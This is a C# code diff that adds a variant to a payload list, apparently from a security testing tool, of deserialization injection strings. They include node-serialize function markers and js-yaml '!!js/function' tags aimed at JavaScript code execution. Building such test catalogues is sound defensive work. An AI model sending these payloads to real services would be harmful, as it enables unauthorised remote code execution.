@@ -52,7 +52,7 @@ public sealed class CodePayloads(AttackClass attack) : TextKit
     [
         new("marked function in JSON", "{\"x\":\"_$$ND_FUNC$$_function(){" + Short + "}()\"}"), new("YAML function", "{ toString: !!js/function 'function(){" + Short + "}' }"),
         new("YAML function, long tag", "\"toString\": !<tag:yaml.org,2002:js/function> \"function(){" + Short + "}\""), new("YAML called function", "a: !!js/function '(function(){" + Short + "})()'"),
-        new("YAML function as key", "{ !!js/function 'function(){" + Short + "}' : 1 }"), new("YAML escaped function", "!!js/function >\n  function(){" + Short + "}"),
+        new("YAML function as key", "{ !!js/function 'function(){" + Short + "}' : 1 }"), new("YAML object as key", "{ ? { toString: !!js/function 'function(){" + Short + "}' } : 1 }"), new("YAML escaped function", "!!js/function >\n  function(){" + Short + "}"),
         new("function in JSON", "{\"x\":{\"__js_function\":\"function(){" + Short + "}()\"}}"), new("JavaScript object", "({a:" + Short + "})"), new("expression", Call),
         new("object property", "{\"a\":" + Short + "}"), new("regular expression tag", "!!js/regexp /x/e"), new("bracketed call", "(function(){" + Short + "})()"),
     ];
